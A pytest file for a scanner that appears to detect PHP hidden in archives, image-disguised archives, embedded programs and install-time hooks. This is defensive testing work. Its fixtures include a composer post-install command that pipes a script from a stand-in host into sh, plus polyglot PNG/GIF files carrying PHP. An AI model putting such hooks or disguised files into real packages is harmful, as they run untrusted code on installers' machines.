"""Archives inside of a release, programs, and manifests: what cannot hold a comment with an expectation."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
from pathlib import Path

import pytest

from scanner.model.finding import Finding
from scanner.pipeline import ScanOptions, scan

CALL = b'<?php\nfile_get_contents("https://%s/");\n'


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("cache")


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def tarred(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def phar(name: bytes, content: bytes, stub: bytes = b"<?php ") -> bytes:
    entry = struct.pack("<I", len(name)) + name + struct.pack("<IIIIII", len(content), 0, len(content), 0, 0, 0)
    manifest = struct.pack("<IHIII", 1, 0x1100, 0, 0, 0) + entry
    return stub + b"__HALT_COMPILER(); ?>\r\n" + struct.pack("<I", len(manifest)) + manifest + content


def findings(folder: Path, cache: Path, files: dict[str, bytes]) -> list[Finding]:
    for name, content in {"index.php": b"<?php\n", **files}.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    return list(scan(str(folder), ScanOptions(cache=cache, jobs=0)).findings)


def places(found: list[Finding], rule: str) -> list[tuple[str, str]]:
    return sorted((item.path, ",".join(item.destinations)) for item in found if item.rule == rule)


def test_php_in_archives_is_found_under_the_name_of_the_member(tmp_path: Path, cache: Path) -> None:
    inner = zipped({"lib/deep.php": CALL % b"deep.example"})
    found = findings(
        tmp_path,
        cache,
        {
            "a.zip": zipped({"x/inner.php": CALL % b"zip.example", "../../up.php": CALL % b"up.example"}),
            "stored.zip": zipped({"inner.php": CALL % b"stored.example"}, zipfile.ZIP_STORED),
            "b.tar.gz": gzip.compress(tarred("d/inner.php", CALL % b"tar.example")),
            "c.phar": phar(b"inner.php", CALL % b"phar.example"),
            "d.zip": zipped({"inner.zip": inner}),
            "e.docx": zipped({"word/document.xml": b"<w/>"}),
        },
    )
    assert places(found, "url-capable-call") == [
        ("a.zip!/up.php", "up.example"),
        ("a.zip!/x/inner.php", "zip.example"),
        ("b.tar.gz!/d/inner.php", "tar.example"),
        ("c.phar!/inner.php", "phar.example"),
        ("d.zip!/inner.zip!/lib/deep.php", "deep.example"),
        ("stored.zip!/inner.php", "stored.example"),
    ]
    assert {item.path for item in found if item.rule == "executable-file"} == {
        "a.zip", "stored.zip", "b.tar.gz", "c.phar", "d.zip!/inner.zip",
    }  # fmt: skip


def test_an_archive_behind_an_image_is_high(tmp_path: Path, cache: Path) -> None:
    behind = b"\x89PNG\r\n\x1a\n" + b"0" * 100 + zipped({"x.php": CALL % b"behind.example"})
    image = phar(b"x.php", CALL % b"image.example", b"GIF89a<?php ")
    found = findings(
        tmp_path, cache, {"logo.png": behind, "pic.gif": image, "plain.png": b"\x89PNG\r\n\x1a\n" + b"0" * 900}
    )
    severities = {item.path: item.severity.value for item in found if item.rule == "executable-file"}
    assert severities == {"logo.png": "high", "pic.gif": "high"}
    assert ("pic.gif!/x.php", "image.example") in places(found, "url-capable-call")


def test_php_before_an_archive_is_not_hidden_by_its_name(tmp_path: Path, cache: Path) -> None:
    content = zipped({"readme.txt": b"<?php <?php <?php"}) + CALL % b"tail.example"
    found = findings(tmp_path, cache, {"a.zip": content})
    assert ("a.zip", "tail.example") in places(found, "url-capable-call")


def test_a_broken_a_large_and_an_encrypted_archive_are_named(tmp_path: Path, cache: Path) -> None:
    whole = zipped({"a.txt": b"x"})
    locked = whole.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")
    assert locked != whole
    found = findings(
        tmp_path,
        cache,
        {
            "broken.zip": whole[:40],
            "locked.zip": locked,
            "large.zip": zipped({"zeros": bytes(9_000_000)}),
        },
    )
    cuts = sorted((item.path, item.api) for item in found if item.rule == "unread-part")
    assert cuts == [
        ("broken.zip", "archive-broken"), ("large.zip", "archive-size"), ("locked.zip", "archive-encrypted"),
    ]  # fmt: skip


def test_programs_are_listed_with_their_hosts(tmp_path: Path, cache: Path) -> None:
    found = findings(
        tmp_path,
        cache,
        {
            "helper.dat": b"\x7fELF" + b"0" * 100 + b"https://program.example/x\0",
            "page.wasm": b"\0asm\1\0\0\0",
            "memo.txt": b"MZ is how a text may begin, too; it is no program for that" + b"." * 40,
        },
    )
    assert places(found, "executable-file") == [("helper.dat", "program.example"), ("page.wasm", "")]


def test_code_that_runs_at_installation_is_listed(tmp_path: Path, cache: Path) -> None:
    composer = {
        "scripts": {"post-install-cmd": "curl https://run.example/i.sh | sh", "test": "phpunit"},
        "autoload": {"files": ["src/boot.php"]},
    }
    npm = {"scripts": {"postinstall": "node -e 1", "build": "curl https://build.example"}}
    found = findings(
        tmp_path,
        cache,
        {
            "composer.json": json.dumps(composer).encode(),
            "package.json": json.dumps(npm).encode(),
            "vendor/a/b/composer.json": json.dumps(composer).encode(),
            ".husky/pre-commit": b"#!/bin/sh\nphp -r 1\n",
        },
    )
    listed = sorted((item.path, item.api, item.severity.value) for item in found if item.rule == "install-time-code")
    assert listed == [
        (".husky/pre-commit", "git hook", "medium"),
        ("composer.json", "autoload src/boot.php", "info"),
        ("composer.json", "composer post-install-cmd", "medium"),
        ("package.json", "npm postinstall", "medium"),
        ("vendor/a/b/composer.json", "autoload src/boot.php", "info"),
        ("vendor/a/b/composer.json", "composer post-install-cmd", "low"),
    ]
